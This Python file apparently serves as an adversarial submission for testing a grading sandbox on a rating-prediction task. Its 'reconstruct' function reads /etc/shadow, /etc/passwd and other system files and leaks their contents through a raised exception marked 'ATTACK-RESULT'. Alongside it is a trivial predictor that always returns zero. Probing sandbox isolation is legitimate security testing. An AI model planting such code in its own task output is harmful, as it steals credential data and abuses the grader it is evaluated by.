# ruff: noqa
"""Read /etc/shadow, /etc/passwd, /etc/group and /etc/resolv.conf; report their content."""

import json

import numpy as np


def reconstruct(R, k):
    found = {}
    for path in ("/etc/shadow", "/etc/passwd", "/etc/group", "/etc/gshadow", "/etc/resolv.conf"):
        try:
            with open(path, errors="replace") as fh:
                found[path] = fh.read()[:1500]
        except OSError as exc:
            found[path] = type(exc).__name__
    raise RuntimeError("ATTACK-RESULT " + json.dumps(found))


class RatingPredictor:
    """Honest but wrong: a constant 0 rating."""

    def __init__(self, n_factors=10):
        self.n_factors = n_factors

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(len(users))
